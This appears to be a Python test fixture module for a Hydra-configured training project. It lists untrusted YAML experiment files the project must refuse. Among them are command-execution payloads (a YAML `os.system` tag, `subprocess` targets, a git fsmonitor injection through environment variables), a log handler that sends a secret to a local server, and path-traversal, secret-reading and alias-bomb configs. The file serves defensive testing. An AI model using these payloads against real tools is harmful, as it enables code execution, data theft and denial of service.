"""What a stranger's YAML has tried: each a folder of files and the words that use it.

`REFUSED` must end in one sentence with nothing written; the third entry is what it must name.
`HARMLESS` may also run.
"""

from .making import GLOBAL

Attack = tuple[dict[str, str], str, str]
CHOSEN = "experiment=evil"
SWEEP = "-m experiment=evil"


def experiment(text: str, words: str = CHOSEN, named: str = "evil.yaml") -> Attack:
    return {"experiment/evil.yaml": GLOBAL + text}, words, named


def hydra(text: str, words: str = CHOSEN, named: str = "hydra") -> Attack:
    return experiment(f"hydra: {text}\n", words, named)


def head(text: str, named: str = "") -> Attack:
    return {"head/evil.yaml": text}, "head=evil", named


TOUCH = "_target_: pathlib.Path.touch, self: ROOT/trap"
FOCAL = "_target_: lossheads.heads.Focal\n_partial_: true\n"
LOGS = "version: 1, root: {handlers: [a]}"

TRUST: dict[str, Attack] = {
    "grants itself trust": experiment(
        "trust: [subprocess]\nhead: {_target_: subprocess.getoutput, _partial_: false, "
        "cmd: touch ROOT/trap}\n",
        named="trust",
    ),
    "grants trust through the environment": experiment(
        "trust: [subprocess]\nhydra: {job: {env_set: {LOSSHEADS_TRUST: subprocess}}}\n"
        "head: {_target_: subprocess.getoutput, _partial_: false, cmd: touch ROOT/trap}\n",
        named="hydra.job",
    ),
    "trust by a sweep": hydra("{sweeper: {params: {trust: '[evil]'}}}", SWEEP, "trust"),
    "metrics of its own": experiment("extra_metrics: [evil.metric]\n", named="extra_metrics"),
}

ENVIRONMENT: dict[str, Attack] = {
    "git runs a command": hydra(
        "{job: {env_set: {GIT_CONFIG_COUNT: '1', GIT_CONFIG_KEY_0: core.fsmonitor, "
        "GIT_CONFIG_VALUE_0: 'touch ROOT/trap'}}}",
        named="hydra.job",
    ),
    "git traces into a file": hydra("{job: {env_set: {GIT_TRACE: ROOT/trap}}}", named="hydra.job"),
    "another git": hydra("{job: {env_set: {PATH: ROOT/theirs}}}", named="hydra.job"),
    "env_set by a package header": (
        {"experiment/evil.yaml": "# @package hydra.job.env_set\nGIT_TRACE: ROOT/trap\n"},
        CHOSEN,
        "hydra.job",
    ),
    "env_set by a package of defaults": (
        {
            "experiment/evil.yaml": GLOBAL + "defaults: [{/bits@hydra.job.env_set: git}]\n",
            "bits/git.yaml": "GIT_TRACE: ROOT/trap\n",
        },
        CHOSEN,
        "hydra.job",
    ),
    "env_set by a sweep": hydra(
        "{sweeper: {params: {hydra.job.env_set: '{GIT_TRACE: ROOT/trap}'}}}", SWEEP, "hydra"
    ),
    "env_set by a head": (
        {"head/evil.yaml": GLOBAL + "hydra: {job: {env_set: {A: b}}}\n"},
        "head=evil",
        "hydra.job",
    ),
    "env_copy": hydra("{job: {env_copy: [LOSSHEADS_TEST_SECRET]}}", named="hydra.job"),
    "env_copy of nothing": hydra("{job: {env_copy: [NOT_THERE]}}", named="hydra.job"),
}

CALLS: dict[str, Attack] = {
    "callbacks": hydra(f"{{callbacks: {{x: {{{TOUCH}}}}}}}"),
    "callbacks made by a resolver": hydra(
        "{callbacks: '${oc.create:{x:{_target_:pathlib.Path.touch,self:ROOT/trap}}}'}"
    ),
    "callbacks behind an interpolation": experiment(
        f"evil: {{{TOUCH}}}\nhydra: {{callbacks: {{x: '${{evil}}'}}}}\n", named="hydra.callbacks"
    ),
    "callbacks behind a part of the run": experiment(
        f"head: {{evil: {{{TOUCH}}}}}\nhydra: {{callbacks: {{x: '${{head.evil}}'}}}}\n",
        named="hydra.callbacks",
    ),
    "the whole section behind an interpolation": experiment(
        f"evil: {{callbacks: {{x: {{{TOUCH}}}}}}}\nhydra: ${{evil}}\n", named="hydra"
    ),
    "callbacks of a group of its own": (
        {
            "experiment/evil.yaml": GLOBAL + "defaults: [{override /hydra/callbacks: x}]\n",
            "hydra/callbacks/x.yaml": f"x: {{{TOUCH}}}\n",
        },
        CHOSEN,
        "hydra",
    ),
    "callbacks chosen by the user": (
        {"hydra/callbacks/x.yaml": f"x: {{{TOUCH}}}\n"},
        "hydra/callbacks=x",
        "hydra",
    ),
    "a callback of Hydra's": hydra(
        "{callbacks: {x: {_target_: hydra.experimental.callbacks.PickleJobInfoCallback}}}"
    ),
    "a shipped head as a callback": experiment(
        "defaults: [{/head@hydra.callbacks.x: softmax_cce}]\n", named="hydra"
    ),
    "callbacks by a sweep": hydra(
        "{sweeper: {params: {+hydra.callbacks.x: '{_target_: evil.Thing}'}}}", SWEEP
    ),
    "callbacks as recorded overrides": hydra(
        "{overrides: {hydra: ['+hydra.callbacks.x={_target_:evil.Thing}']}}", SWEEP
    ),
    "a launcher": hydra("{launcher: {_target_: evil.Launcher}}", SWEEP),
    "a launcher in place of ours": (
        {"hydra/launcher/cohort.yaml": "_target_: evil.Launcher\n"},
        "-m seed=0,1",
        "hydra",
    ),
    "the launcher that Hydra brings": experiment(
        "defaults: [{override /hydra/launcher: basic}]\n", SWEEP, "hydra"
    ),
    "a sweeper": hydra("{sweeper: {_target_: evil.Sweeper}}", SWEEP),
    "a sweeper, all keys of the rule beside it": hydra(
        "{mode: MULTIRUN, sweeper: {_target_: evil.Sweeper, params: {seed: '0,1'}}}"
    ),
    "Hydra's section in place of Hydra's": (
        {"hydra/config.yaml": "mode: RUN\n"},
        "seed=0",
        "hydra",
    ),
    "log handlers from a factory": hydra(
        f"{{job_logging: {{{LOGS}, handlers: {{a: {{(): evil.Handler}}}}}}}}"
    ),
    "log handlers of no class": hydra(
        f"{{job_logging: {{{LOGS}, handlers: {{a: {{class: logging.os.system}}}}}}}}"
    ),
    "a filter in the logs": hydra(
        f"{{job_logging: {{{LOGS}, filters: {{f: {{(): evil.Filter}}}}, "
        "handlers: {a: {class: logging.StreamHandler, filters: [f]}}}}"
    ),
    "a stream in the logs": hydra(
        f"{{job_logging: {{{LOGS}, handlers: {{a: {{class: logging.StreamHandler, "
        "stream: 'ext://evil.x'}}}}"
    ),
}

WRITES: dict[str, Attack] = {
    "a log that truncates": hydra(
        f"{{job_logging: {{{LOGS}, handlers: {{a: {{class: logging.FileHandler, "
        "filename: ROOT/evil.py, mode: w}}}}"
    ),
    "a log that rotates": hydra(
        f"{{hydra_logging: {{{LOGS}, handlers: {{a: {{class: "
        "logging.handlers.RotatingFileHandler, filename: trap}}}}"
    ),
    "a log that tells a server": hydra(
        f"{{job_logging: {{{LOGS}, handlers: {{a: {{class: logging.handlers.HTTPHandler, "
        "host: '127.0.0.1:9', url: '/${oc.env:LOSSHEADS_TEST_SECRET}'}}}}"
    ),
    "a log by the defaults": experiment(
        "defaults: [{override /hydra/job_logging: default}]\n", named="hydra"
    ),
    "the run's folder": hydra("{run: {dir: ROOT/elsewhere}}"),
    "the run's folder by a resolver": hydra("{run: {dir: '${now:%Y}'}}"),
    "the sweep's folder": hydra("{sweep: {dir: ROOT/elsewhere}}", SWEEP),
    "a job's folder": hydra("{sweep: {subdir: ../../elsewhere}}", SWEEP),
    "output_subdir": hydra("{output_subdir: ../../elsewhere}"),
    "output_subdir beside the outputs": hydra("{output_subdir: .hydra}"),
    "chdir": hydra("{run: {dir: /tmp}, job: {chdir: true}}"),
    "the job's name": hydra("{job: {name: ../../elsewhere}}"),
    "output_dir": experiment("output_dir: ROOT/elsewhere\n", named="output_dir"),
    "output_dir above": experiment("output_dir: ../elsewhere\n", named="output_dir"),
    "output_dir through the outputs": experiment(
        "output_dir: outputs/../elsewhere\n", named="output_dir"
    ),
    "output_dir beside": experiment("output_dir: elsewhere\n", named="output_dir"),
    "output_dir here": experiment("output_dir: .\n", named="output_dir"),
    "output_dir by an interpolation": experiment(
        "data_dir: ROOT/elsewhere\noutput_dir: ${data_dir}\n", named="output_dir"
    ),
    "output_dir by a resolver": experiment("output_dir: ${oc.env:HOME}/x\n"),
    "output_dir by a head": (
        {"head/evil.yaml": GLOBAL + "output_dir: elsewhere\n"},
        "head=evil",
        "output_dir",
    ),
    "output_dir by a sweep": hydra(
        "{sweeper: {params: {output_dir: elsewhere}}}", SWEEP, "output_dir"
    ),
    "output_dir by a package": (
        {
            "experiment/evil.yaml": GLOBAL + "defaults: [{/bits@_global_: o}]\n",
            "bits/o.yaml": "output_dir: elsewhere\n",
        },
        CHOSEN,
        "output_dir",
    ),
    "output_dir that is no word": experiment("output_dir: [elsewhere]\n", named="output_dir"),
}

READS: dict[str, Attack] = {
    name: experiment(f"dataset: {{classes: '{text}'}}\n")
    for name, text in {
        "a variable": "${oc.env:LOSSHEADS_TEST_SECRET}",
        "a variable or another": "${oc.env:NOT_THERE,${oc.env:LOSSHEADS_TEST_SECRET}}",
        "a variable in a word": "x${oc.env:LOSSHEADS_TEST_SECRET}x",
        "a variable with spaces": "${ oc.env : LOSSHEADS_TEST_SECRET }",
        "a decoder": "${oc.decode:'{a: 1}'}",
        "a selection": "${oc.select:hydra.runtime.cwd}",
        "values of a section": "${oc.dict.values:hydra.job}",
        "keys of a section": "${oc.dict.keys:hydra.job}",
        "a deprecation": "${oc.deprecated:seed}",
        "a resolver of Hydra's": "${hydra:runtime.cwd}",
        "Hydra's section": "${hydra.runtime.cwd}",
        "Hydra's section from here": "${..hydra.runtime.cwd}",
        "Hydra's section in brackets": "${[hydra].runtime.cwd}",
        "Python's version": "${python_version:}",
        "the clock": "${now:%Y}",
        "an unknown resolver": "${evil:x}",
        "an interpolation in one": "${${head}}",
        "an interpolation that ends nowhere": "${seed",
        "an escaped one": "\\${oc.env:LOSSHEADS_TEST_SECRET}",
        "key by key": "${oc.env:${data_dir}}",
    }.items()
} | {
    "a variable as a key": experiment("dataset: {'${oc.env:HOME}': 1}\n"),
    "a variable by a sweep": hydra(
        "{sweeper: {params: {head: '${oc.env:LOSSHEADS_TEST_SECRET}'}}}", SWEEP
    ),
    "an escaped variable by a sweep": hydra(
        "{sweeper: {params: {head: '$\\{oc.env:LOSSHEADS_TEST_SECRET\\}'}}}", SWEEP
    ),
    "a quoted variable by a sweep": hydra('{sweeper: {params: {data_dir: "\'x$" }}}', SWEEP),
    "a key of a sweep that is two": hydra(
        "{sweeper: {params: {'seed=0 +hydra.verbose': 'true'}}}", SWEEP
    ),
    "a sweep of sections": hydra("{sweeper: {params: {head: {_target_: evil.Thing}}}}", SWEEP),
    "a sweep of a target": hydra("{sweeper: {params: {head._target_: evil.Thing}}}", SWEEP, ""),
    "params that are a list": hydra("{sweeper: {params: [seed]}}", SWEEP),
    "params by an interpolation": experiment(
        "evil: {trust: evil}\nhydra: {sweeper: {params: '${evil}'}}\n", SWEEP
    ),
    "a sweep by an interpolation": experiment(
        "evil: {params: {trust: evil}}\nhydra: {sweeper: '${evil}'}\n", SWEEP
    ),
    "a file above": experiment("defaults: [../../secret]\n"),
    "a file above by its group": experiment("defaults: [{/head/../../x: secret}]\n"),
    "a file above by its name": experiment("defaults: [{override /head: ../../../secret}]\n"),
    "a file of Hydra's by a way round": experiment(
        "defaults: [{../hydra/job_logging@_global_: default}]\n"
    ),
    "a file by a resolver": experiment("defaults: [{override /head: '${oc.env:HOME}'}]\n"),
    "a group by an interpolation": experiment("defaults: [{'override /${head}': x}]\n"),
    "a choice that is no word": experiment("defaults: [{override /head: {a: b}}]\n"),
    "defaults that are no list": experiment("defaults: {head: focal}\n", named="defaults"),
    "two choices in one": experiment("defaults: [{/head: focal, /model: mlp}]\n", named="evil"),
    "a search path": hydra("{searchpath: ['pkg://evil']}"),
    "a search path of modules": hydra("{searchpath: ['structured://evil']}"),
    "help": hydra("{help: {template: '${oc.env:LOSSHEADS_TEST_SECRET}'}}", f"--help {CHOSEN}"),
    "verbose": hydra("{verbose: true}"),
    "recorded overrides": hydra("{overrides: {task: [trust=evil]}}", SWEEP),
    "runtime": hydra("{runtime: {output_dir: elsewhere}}"),
    "a mode that is none": hydra("{mode: [RUN]}"),
    "a mode by an interpolation": experiment("m: RUN\nhydra: {mode: '${m}'}\n"),
    "no section at all": hydra("null"),
    "a section that is a list": hydra("[1]"),
}

YAML: dict[str, Attack] = {
    "a call": head("_target_: !!python/object/apply:os.system ['touch ROOT/trap']\n", "evil.yaml"),
    "an object": head("_target_: !!python/object/new:evil.Thing []\n", "evil.yaml"),
    "a module": head("_target_: !!python/module:evil\n", "evil.yaml"),
    "a name": head("_target_: !!python/name:evil.Thing\n", "evil.yaml"),
    "a path": head("_target_: !!python/object/apply:pathlib.Path [/tmp]\n", "evil.yaml"),
    "bytes": head(FOCAL + "gamma: !!binary aGFsbG8=\n", "evil.yaml"),
    "a set": head(FOCAL + "gamma: !!set {a, b}\n", "evil.yaml"),
    "pairs": head(FOCAL + "gamma: !!omap [a: 1]\n", "evil.yaml"),
    "a tag of its own": head(FOCAL + "gamma: !evil 2\n", "evil.yaml"),
    "a word that says it is a number": head(FOCAL + "gamma: !!int two\n", "evil.yaml"),
    "a merged mapping": head("a: &a {x: 1}\n<<: *a\n" + FOCAL, "evil.yaml"),
    "a merge without an alias": head("<<: {gamma: 2}\n" + FOCAL, "evil.yaml"),
    "an alias": head(FOCAL + "gamma: &a 2\nx: *a\n", "evil.yaml"),
    "an alias of itself": head(FOCAL + "gamma: &a [*a]\n", "evil.yaml"),
    "an alias of nothing": head(FOCAL + "gamma: *a\n", "evil.yaml"),
    "a bomb of aliases": head(
        "a0: &a0 [x,x,x,x,x,x,x,x,x]\n"
        + "".join(f"a{i}: &a{i} [{','.join([f'*a{i - 1}'] * 9)}]\n" for i in range(1, 9)),
        "evil.yaml",
    ),
    "3,000 levels": head("gamma: " + "[" * 3000 + "]" * 3000 + "\n", "evil.yaml"),
    "3,000 levels of mappings": head("gamma: " + "{a: " * 3000 + "1" + "}" * 3000, "evil.yaml"),
    "100 levels of lines": head("".join(" " * i + "a:\n" for i in range(100)), "evil.yaml"),
    "brackets that never close": head("gamma: " + "[" * 200_000, "evil.yaml"),
    "a megabyte": head(FOCAL + "gamma: " + "x" * 1_000_000 + "\n", "evil.yaml"),
    "40,000 entries": head(FOCAL + "gamma: [" + "1," * 40_000 + "]\n", "evil.yaml"),
    "a number of 5,000 digits": head(FOCAL + "gamma: " + "9" * 5000 + "\n"),
    "a float out of range": head(FOCAL + "gamma: 1.0e999\n"),
    "no number": head(FOCAL + "gamma: .nan\n"),
    "two documents": head(FOCAL + "---\ntrust: [evil]\n", "evil.yaml"),
    "a list": head("[1, 2]\n", "evil.yaml"),
    "a word": head("_target_\n", "evil.yaml"),
    "YAML in a word": head("'{_target_: evil.Thing}'\n", "evil.yaml"),
    "a number": head("3\n", "evil.yaml"),
    "nothing": head("", "head"),
    "twice the same key": head(FOCAL + "gamma: 1\ngamma: 2\n", "evil.yaml"),
    "a list as a key": head("? [a]\n: 1\n" + FOCAL, "evil.yaml"),
    "nothing as a key": head("null: 1\n" + FOCAL, ""),
    "a tab": head(FOCAL + "gamma:\t- 1\n\t- 2\n", "evil.yaml"),
    "a control character": head(FOCAL + "gamma: '\x00'\n", "evil.yaml"),
    "a directive": head("%YAML 9.9\n---\n" + FOCAL, "evil.yaml"),
    "a header of 100 levels": (
        {"head/evil.yaml": f"# @package {'a.' * 100}a\n" + FOCAL},
        "head=evil",
        "evil.yaml",
    ),
    "a header that is no name": (
        {"head/evil.yaml": "# @package ${oc.env:HOME}\n" + FOCAL},
        "head=evil",
        "evil.yaml",
    ),
    "a header of three words": ({"head/evil.yaml": "# @package a b\n" + FOCAL}, "head=evil", ""),
}

TARGETS: dict[str, Attack] = {
    f"target {target!r}": head(f"_target_: {target}\n_partial_: true\n", "_target_")
    for target in (
        "os.system",
        "evil.Thing",
        "lossheads.heads.base.os.system",
        "lossheads.heads.base.Protocol",
        "lossheads.heads..Focal",
        "lossheads.heads.",
        "lossheads.heads.__class__",
        "lossheads.heads.base.__builtins__",
        "lossheads.heаds.Focal",  # the second a is Cyrillic
        "'lossheads.heads.Focal '",
        "lossheads.heads.functional.torch.load",
        "lossheads.heads.examples.import_module",
    )
} | {
    "arguments": head(FOCAL + "_args_: [touch ROOT/trap]\n", "_args_"),
    "conversion": head(FOCAL + "_convert_: all\n", "_convert_"),
    "a target in a list": head(FOCAL + "gamma: [{_target_: evil.Thing}]\n", "_target_"),
    "a target in a section": head(FOCAL + "gamma: {a: {_target_: evil.Thing}}\n", "_target_"),
    "partly": head(FOCAL.replace("true", "'${oc.env:HOME}'"), "evil.yaml"),
    "partly a word": head(FOCAL.replace("true", "'true'"), "_partial_"),
    "an optimizer that loads": (
        {"optimizer/evil.yaml": "_target_: torch.hub.load\n_partial_: true\nlr: 1\n"},
        "optimizer=evil",
        "_target_",
    ),
    "an optimizer that copies": (
        {"optimizer/evil.yaml": "_target_: torch.optim.swa_utils.deepcopy\n_partial_: true\n"},
        "optimizer=evil",
        "_target_",
    ),
    "a data set that executes": (
        {"dataset/evil.yaml": "_target_: builtins.exec\n_args_: ['import evil']\n"},
        "dataset=evil",
        "_target_",
    ),
    "a schedule that is a module": (
        {"schedule/evil.yaml": "_target_: lossheads.engine.schedules\n"},
        "schedule=evil",
        "_target_",
    ),
}

BOMBS: dict[str, Attack] = {
    "words that double": experiment(
        "".join(f"z{i}: '${{z{i + 1}}}${{z{i + 1}}}'\n" for i in range(40))
        + "z40: x\noutput_dir: outputs\ndata_dir: '${z0}'\n",
        named="refers",
    ),
    "sections that double": experiment(
        "dataset: {a: '${z0}'}\n"
        + "".join(f"z{i}: {{a: '${{z{i + 1}}}', b: '${{z{i + 1}}}'}}\n" for i in range(30))
        + "z30: x\n",
        named="refers",
    ),
    "a chain of 5,000": experiment(
        "".join(f"z{i}: ${{z{i + 1}}}\n" for i in range(5000)) + "z5000: x\ndata_dir: '${z0}'\n",
        named="refers",
    ),
    "a circle": experiment("data_dir: ${z}\nz: ${data_dir}\n", named="data_dir"),
    "itself": experiment("data_dir: ${data_dir}\n", named="data_dir"),
    "a part of itself": experiment("dataset: {a: '${dataset}'}\n", named="dataset"),
    "defaults of itself": experiment("defaults: [evil]\n", named=""),
    "defaults of each other": (
        {
            "experiment/evil.yaml": GLOBAL + "defaults: [a]\n",
            "experiment/a.yaml": GLOBAL + "defaults: [b]\n",
            "experiment/b.yaml": GLOBAL + "defaults: [a]\n",
        },
        CHOSEN,
        "",
    ),
    "defaults that double": (
        {
            f"experiment/{name}.yaml": GLOBAL
            + f"defaults: [n{i + 1}@x{i}a, n{i + 1}@x{i}b]\n" * (i < 25)
            for i, name in enumerate(["evil", *(f"n{i}" for i in range(1, 26))])
        },
        CHOSEN,
        "",
    ),
    "a sweep without end": hydra(
        "{sweeper: {params: {seed: 'range(0,1000000000)'}}}", SWEEP, "runs"
    ),
    "a sweep of many keys": hydra(
        "{sweeper: {params: {seed: 'range(0,100)', data_seed: 'range(0,100)', "
        "optimizer.lr: 'range(1,100)'}}}",
        SWEEP,
        "runs",
    ),
    "a sweep of a long word": hydra("{sweeper: {params: {seed: '" + "1," * 50_000 + "1'}}}", SWEEP),
    "huge layers": experiment(
        "defaults: [{override /model: mlp}]\nmodel: {hidden: [9999999999]}\n",
        "experiment=evil model=mlp",
        "weights",
    ),
    "many huge layers": experiment(
        "model: {hidden: [300000, 300000, 300000]}\n", "experiment=evil model=mlp", "weights"
    ),
    "layers beyond any number": experiment(
        "model: {hidden: [" + "9" * 30 + "]}\n", "experiment=evil model=mlp", ""
    ),
    "channels": experiment(
        "model: {channels: [99999999], dense: 128}\n", "experiment=evil model=cnn", "weights"
    ),
    "threads": experiment("device: {threads: 1000000000}\n", named="device.threads"),
}

REFUSED = {
    f"{kind}: {name}": attack
    for kind, attacks in {
        "trust": TRUST,
        "environment": ENVIRONMENT,
        "calls": CALLS,
        "writes": WRITES,
        "reads": READS,
        "yaml": YAML,
        "targets": TARGETS,
        "bombs": BOMBS,
    }.items()
    for name, attack in attacks.items()
}

# What honest files do as well: these run, and write below `outputs` alone.
ALLOWED: dict[str, Attack] = {
    "logs that Hydra finds first": (
        {"hydra/job_logging/none.yaml": "root: {handlers: [evil]}\n"},
        "seed=0",
        "",
    ),
    "minutes and seconds": head(FOCAL + "gamma: 1:02\nalpha: null\nclass_reduction: sum\n"),
    "a sweep": hydra("{mode: MULTIRUN, sweeper: {params: {head: 'softmax_cce,sigmoid_bce'}}}"),
    "a range": hydra("{sweeper: {params: {seed: 'range(0,2)'}}}", SWEEP),
    "an interpolation": experiment(
        "data_seed: ${seed}\ntraining: {batch_size: '${dataset.classes}'}\n"
    ),
    "one from here": experiment("optimizer: {eps: 1.0e-8, lr: '${.eps}'}\n"),
    "outputs below the outputs": experiment("output_dir: outputs/mine\n"),
    "defaults": experiment(
        "defaults: [{override /head: sigmoid_bce}, {override /model: linear}]\n"
    ),
    "a file of its own": (
        {
            "experiment/evil.yaml": GLOBAL + "defaults: [{override /head: mine}]\n",
            "head/mine.yaml": FOCAL + "gamma: 2\nalpha: null\nclass_reduction: sum\n",
        },
        CHOSEN,
        "",
    ),
}
